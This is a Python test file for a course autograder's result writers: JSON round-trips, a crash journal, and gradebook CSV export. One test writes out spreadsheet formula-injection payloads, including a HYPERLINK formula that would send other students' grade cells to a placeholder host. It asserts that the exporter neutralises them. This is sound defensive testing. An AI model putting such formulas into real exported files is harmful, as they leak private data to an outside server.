"""Result files: atomic rewrites, a journal that survives a crash, a gradebook CSV."""

import csv
import json

from gdgrade.grading.reports.files import Journal, journal_path, read_results, write_csv, write_json
from gdgrade.grading.results import CheckResult, Outcome, SubmissionResult


def _result(name, passed=True, status="failed"):
    outcome = Outcome() if passed else Outcome(status, "wrong", hint="h", mistake="m")
    check = CheckResult("gradient", "the gradient", 2.0 if passed else 0.0, 2.0, "public", outcome)
    return SubmissionResult(submission=name, assignment="a", tests=[check], fingerprint="f")


def test_results_round_trip_through_the_json(tmp_path):
    out = tmp_path / "results.json"
    write_json(out, [_result("one"), _result("two", passed=False)])
    data = json.loads(out.read_text())
    assert [d["submission"] for d in data] == ["one", "two"]
    assert data[1]["tests"][0]["output"] == "wrong\nHint: h"
    back = read_results(out)
    assert back["two"].tests[0].outcome == Outcome("failed", "wrong", "h", "m")
    assert back["one"].score == 2.0


def test_the_journal_holds_what_the_json_does_not_yet(tmp_path):
    out = tmp_path / "results.json"
    write_json(out, [_result("one")])
    journal = Journal(out)
    journal.append(_result("two", passed=False))
    journal.file.write('{"submission": "three", "tests": [')  # cut short by a crash
    journal.file.flush()
    found = read_results(out)
    assert sorted(found) == ["one", "two"]
    journal.close(remove=True)
    assert not journal_path(out).exists()


def test_a_broken_json_reads_as_nothing(tmp_path):
    out = tmp_path / "results.json"
    out.write_text("[{")
    assert read_results(out) == {}


def test_the_csv_tells_a_real_zero_from_a_submission_not_graded(tmp_path):
    graded_zero = _result("zero", passed=False)
    crashed = _result("crashed", passed=False, status="error")
    crashed.problems.append("could not be read")
    write_csv(tmp_path / "grades.csv", [_result("full"), graded_zero, crashed])
    rows = list(csv.DictReader((tmp_path / "grades.csv").open()))
    assert [(r["submission"], r["score"], r["status"]) for r in rows] == [
        ("full", "2", "graded"),
        ("zero", "0", "graded"),
        ("crashed", "0", "not-graded"),
    ]
    assert rows[1]["gradient"] == "0" and rows[1]["mistakes"] == "m"


# -- issue 10: any string, and one result never costs another its place -----------------


def test_a_formula_made_of_a_file_name_and_a_forged_message_is_neutralised(tmp_path):
    """The attack of issue 10: a file name opening a formula, the rest forged in an
    import error, so that the problems cell held ``=HYPERLINK(...)`` reading other
    students' cells.  OWASP: a cell never starts with = + - @ tab or CR."""
    r = _result('=HYPERLINK("http://x/?"&A3&B3,"grades")', passed=False)
    r.problems[:] = [
        '=HYPERLINK("http://x/?"&C4 is larger than 1 MiB: it is not read (left out)',
        'adaline.py could not be imported: ImportError: ",D4)',
    ]
    r.tests[0] = CheckResult(
        "gradient", "t", 0.0, 2.0, "public", Outcome("failed", "-2+3", mistake="@SUM(A1:A9)")
    )
    write_csv(tmp_path / "g.csv", [r])
    row = list(csv.reader((tmp_path / "g.csv").open(encoding="utf-8", newline="")))[1]
    assert row[0] == "'" + r.submission
    assert row[4] == "'@SUM(A1:A9)" and row[5].startswith("'=HYPERLINK(")
    assert (tmp_path / "g.csv").read_text().startswith('"submission","score"')  # all quoted


def test_numbers_are_never_negative_so_never_quoted_as_text(tmp_path):
    r = _result("s", passed=False)
    r.tests[0] = CheckResult("gradient", "t", -0.0, 2.0, "public", r.tests[0].outcome)
    write_csv(tmp_path / "g.csv", [r])
    [row] = csv.DictReader((tmp_path / "g.csv").open(encoding="utf-8", newline=""))
    assert (row["score"], row["gradient"]) == ("0", "0")  # not "-0", which would be "'-0"


def test_a_result_that_cannot_be_written_loses_only_its_own_entry(tmp_path):
    bad = _result("bad")
    bad.variant = {"x": object()}  # nothing JSON can hold
    bad.tests[0] = CheckResult("gradient", "t", "two", 2.0, "public", Outcome())  # nor CSV
    good = [_result("one"), _result("two")]
    write_json(tmp_path / "r.json", [good[0], bad, good[1]])
    data = json.loads((tmp_path / "r.json").read_text())
    assert [d["submission"] for d in data] == ["one", "bad", "two"]
    assert data[1]["score"] == 0 and "could not be written" in data[1]["output"]
    assert read_results(tmp_path / "r.json")["bad"].fingerprint == ""  # graded again next run
    write_csv(tmp_path / "g.csv", [good[0], bad, good[1]])
    rows = list(csv.DictReader((tmp_path / "g.csv").open(encoding="utf-8", newline="")))
    assert [(r["submission"], r["status"]) for r in rows] == [
        ("one", "graded"),
        ("bad", "not-graded"),
        ("two", "graded"),
    ]


def test_feedback_names_are_unique_whatever_the_paths():
    from gdgrade.grading.batch import feedback_name

    prefix = "/srv/" + "course-2026/" * 20  # 240 characters: once, every page's name
    paths = [prefix + f"student-{i}" for i in range(50)]
    paths += ["a b", "a_b", "a/b", "a?b", "index", "\udcff", "\ud800", "", "/", "[/link]"]
    names = [feedback_name(p) for p in paths]
    assert len(set(names)) == len(paths)
    assert all(len(n.encode()) <= 255 and n.endswith(".html") for n in names)
    assert all(n != "index.html" and "/" not in n and not n.startswith(".") for n in names)
    assert "student-7" in names[7]  # the readable part keeps the student's folder
